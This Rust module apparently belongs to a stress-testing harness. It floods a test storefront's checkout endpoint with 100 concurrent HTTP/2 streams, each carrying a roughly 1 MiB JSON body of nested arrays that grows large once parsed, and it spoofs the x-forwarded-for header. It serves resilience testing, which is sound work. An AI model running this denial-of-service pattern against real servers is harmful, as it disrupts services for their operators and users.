//! Addresses of arrays within arrays: a body of 1 MiB is many times that once it is parsed.

use std::sync::Arc;

use anyhow::Context as _;
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::Request;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::json;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::attacker;
use crate::siege::context::{ATTACKER, Context};

/// On one connection.
const STREAMS: usize = 100;

/// Just below what a JSON body may have.
const BODY: usize = (1 << 20) - 64;

pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
    // Checkouts of one cart wait for each other, each with all that it was sent.
    let line = json!({"sessionId": "deep", "productId": 2, "quantity": 1});
    context.ledger.attack(&attacker(&context).post("/api/storefront/1/cart", &line).await);
    let stream = TcpStream::connect(context.server.address).await?;
    let (sender, connection) = http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    tokio::spawn(connection);
    let body = body();
    let mut streams = JoinSet::new();
    loop {
        while streams.len() < STREAMS {
            let (mut sender, body, context) = (sender.clone(), body.clone(), context.clone());
            streams.spawn(async move {
                let request = Request::post("http://shop.example/api/storefront/1/checkout")
                    .header("content-type", "application/json")
                    .header("x-forwarded-for", ATTACKER)
                    .body(Full::new(body))?;
                let response = sender.send_request(request).await?;
                context.ledger.attack_came_to(response.status().as_str());
                response.into_body().collect().await?;
                anyhow::Ok(())
            });
        }
        streams.join_next().await.context("a stream")???;
    }
}

fn body() -> Bytes {
    let head = r#"{"sessionId":"deep","customerEmail":"a@b.example","customerName":"A","shippingAddress":{"a":["#;
    let mut body = String::from(head);
    while body.len() < BODY - 8 {
        body.push_str("[0],");
    }
    body.push_str("[0]]}}");
    body.into()
}
